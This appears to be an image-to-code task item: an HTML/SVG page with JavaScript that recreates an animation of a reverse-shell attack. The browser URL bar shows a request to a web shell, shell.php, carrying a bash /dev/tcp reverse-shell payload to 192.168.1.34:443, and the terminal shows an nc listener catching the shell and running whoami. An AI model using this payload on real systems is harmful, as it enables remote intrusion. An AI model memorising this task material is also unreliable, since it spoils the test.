
Write an HTML page that moves like this. It is 692 px wide and 388 px high and loops after 7400 ms.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Listener session</title>
<style>
  html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #fff; }
  svg { display: block; width: 692px; height: 388px; }
  text { white-space: pre; text-rendering: geometricPrecision; }
  .ui { font-family: "DejaVu Sans", sans-serif; }
  .mono { font: 10.13px "DejaVu Sans Mono", monospace; }
  .icon { fill: none; stroke: #f4f4f8; stroke-width: 1.1; stroke-linecap: round; stroke-linejoin: round; }
</style>
</head>
<body>
<svg viewBox="0 0 692 388">
  <defs>
    <linearGradient id="fade" gradientUnits="userSpaceOnUse" x1="116" x2="133" y1="0" y2="0">
      <stop stop-color="#fff"/><stop offset="1" stop-color="#fff" stop-opacity="0"/>
    </linearGradient>
  </defs>

  <!-- Browser -->
  <rect width="692" height="26" fill="#272831"/>
  <rect width="692" height="26" fill="#1b1c24" data-on="2100-4300 7100-7400"/>
  <path d="M0 0H149V19Q149 22 146 22H0Z" fill="#474750"/>
  <rect y="25" width="692" height="28" fill="#4a4b55"/>
  <g class="ui" font-size="9.2" fill="url(#fade)">
    <text x="4" y="13.8" data-on="0-2800">192.168.1.45/shell.php?cmd</text>
    <text x="19" y="13.8" data-on="2800-7400">192.168.1.45/shell.php?cmd</text>
  </g>
  <g fill="#d5d5dd">
    <circle cx="5.7" cy="10.7" r="1.2" data-on="2800-6300"/>
    <rect x="5.5" y="9.6" width="4.5" height="2.2" rx="1.1" data-on="6300-6600"/>
    <circle cx="5.8" cy="10.7" r="1.2" data-on="6600-7100"/>
    <rect x="8.3" y="9.6" width="4.4" height="2" rx="1" data-on="7100-7400"/>
  </g>
  <g class="icon">
    <path d="M135.8 8.2l4.8 4.8m0-4.8l-4.8 4.8"/>
    <path d="M160 11h8m-4-4v8"/>
    <path d="M3.5 39.5h8.5m-3.6-3.6l3.6 3.6l-3.6 3.6" stroke="#85858f"/>
    <g data-on="0-4300">
      <path d="M35.8 37.2A4.2 4.2 0 1 0 36.4 40.5" stroke-width="1.3"/>
      <path d="M37 34.8v3.6h-3.6z" fill="#f4f4f8" stroke-width=".5"/>
    </g>
    <path d="M32.4 37.6l2.2 2.2h-2.2z" fill="#f4f4f8" stroke-width=".6" data-on="2800-4300"/>
    <path d="M28.6 35.8l7.2 7.2m0-7.2l-7.2 7.2" stroke-width="1.3" data-on="4300-7400"/>
    <path d="M51.6 39.4l4.9-4.4l4.9 4.4M52.8 38.8v5.2h7.4v-5.2M55.2 44v-3.2h2.6V44"/>
  </g>
  <rect x="135" y="28.5" width="550" height="21.5" rx="3" fill="#2c2c36"/>
  <g class="icon">
    <path d="M146 34.2l4.5 1.6q.4 5.8-4.5 8.5q-4.9-2.7-4.5-8.5z"/>
    <path d="M162.8 38.6v-1.7a2.3 2.3 0 0 1 4.6 0v1.7"/>
    <rect x="161.6" y="38.8" width="7" height="5" rx="1"/>
    <path d="M160.6 34.4l8.8 9.4" stroke="#f0405f" stroke-width="1.3"/>
    <path id="star"/>
  </g>
  <text class="ui" x="177" y="42.4" font-size="9.52" fill="#a5a5ae"><tspan fill="#fafafc">192.168.1.45</tspan>/shell.php?cmd=bash -c 'bash -i >%26 /dev/tcp/192.168.1.34/443 0>%261'</text>

  <!-- Terminal -->
  <rect x="184.3" y="98.3" width="475.6" height="263.2" rx="9.5" fill="#2b2b36" stroke="#7f8090"/>
  <rect x="184.3" y="98.3" width="475.6" height="263.2" rx="9.5" fill="none" stroke="#a2626f" data-on="2100-4300 7100-7400"/>
  <g data-on="0-1200">
    <rect x="225" y="119.8" width="46" height="12.2" rx="6.1" fill="#363639"/>
    <rect x="204.8" y="119.8" width="31.2" height="12.2" rx="6.1" fill="#98fb92"/>
    <path d="M217.3 124h2.4v4M218 125.5l1.7 1" fill="none" stroke="#26332a"/>
    <path d="M224 122.8l2.8 1.4v3.4l-2.8 1.4l-2.8-1.4v-3.4zM221.2 124.2l2.8 1.5l2.8-1.5M224 125.7v3.3" fill="none" stroke="#26332a"/>
    <path d="M241 126l5-4.5l1.8 1.6v-1h1.3v2.2L251 126l-.7.7l-.8-.6v3.7h-2.4v-2.6h-2.2v2.6h-2.4v-3.7l-.8.6z" fill="#f2f2f2"/>
  </g>
  <g class="mono" id="screen" fill="#b9bcdd"></g>
</svg>

<script>
const LOOP = 7400, LEFT = 205, CHAR = 6.1, ROW = 12.2;
const LAVENDER = '#b9bcdd', CYAN = '#6fd3bd', RED = '#b3121d';
const screen = document.getElementById('screen');

function add(tag, attrs, text = '') {
  const el = document.createElementNS('http://www.w3.org/2000/svg', tag);
  for (const key in attrs) el.setAttribute(key, attrs[key]);
  el.textContent = text;
  screen.append(el);
}

function print(row, col, text, on, fill = LAVENDER) {
  add('text', { x: LEFT + col * CHAR, y: 129.5 + row * ROW, fill, 'data-on': on }, text);
}

function bar(row, col, on) {
  add('rect', { x: LEFT + col * CHAR - .2, y: 119.8 + row * ROW, width: 1.6, height: 12.4, fill: '#c5c9ea', 'data-on': on });
}

function hollow(row, col, on) {
  add('rect', { x: LEFT + col * CHAR + .5, y: 120.4 + row * ROW, width: 5.2, height: 11.2,
    fill: 'none', stroke: LAVENDER, 'data-on': on });
}

print(0, 8, '~', '0-1200', '#e8e8e8');
print(0, 12, 'nc', '600-1200', CYAN);
print(0, 15, '-nlvp 443', '600-1200');

print(0, 0, '❯', '1200-7400', RED);
print(0, 2, 'nc', '1200-7400', CYAN);
print(0, 5, '-nlvp 443', '1200-7400');
print(1, 0, 'listening on [any] 443 ...', '1200-7400');
[
  'connect to [192.168.1.34] from (UNKNOWN) [192.168.1.45] 33994',
  'bash: cannot set terminal process group (501): Inappropriate ioctl for',
  'device',
  'bash: no job control in this shell',
  'bash-5.0$ whoami',
].forEach((text, i) => print(2 + i, 0, text, '4300-7400'));
['whoami', 'app-user', 'bash-5.0$'].forEach((text, i) => print(7 + i, 0, text, '6300-7400'));

bar(0, 12, '100-600');
bar(0, 24, '600-1200');
bar(2, 0, '1200-1700 1800-2100');
hollow(2, 0, '2100-4300');
bar(7, 0, '4300-6300');
bar(9, 10, '6300-7100');
hollow(9, 10, '7100-7400');

const starPoints = Array.from({ length: 10 }, (_, i) => {
  const r = i % 2 ? 2.6 : 5.6, a = i * Math.PI / 5;
  return `${674 + r * Math.sin(a)} ${39.6 - r * Math.cos(a)}`;
});
document.getElementById('star').setAttribute('d', `M${starPoints.join('L')}Z`);

// Each data-on value lists the "start-end" spans in which the element is visible.
for (const el of document.querySelectorAll('[data-on]')) {
  const spans = el.dataset.on.split(' ').map(span => span.split('-').map(Number));
  const times = [...new Set([0, ...spans.flat(), LOOP])].sort((a, b) => a - b);
  const frames = times.map(t => ({
    offset: t / LOOP,
    opacity: spans.some(([start, end]) => t >= start && t < end) ? 1 : 0,
    easing: 'step-end',
  }));
  el.animate(frames, { duration: LOOP, iterations: Infinity });
}
</script>
</body>
</html>
```
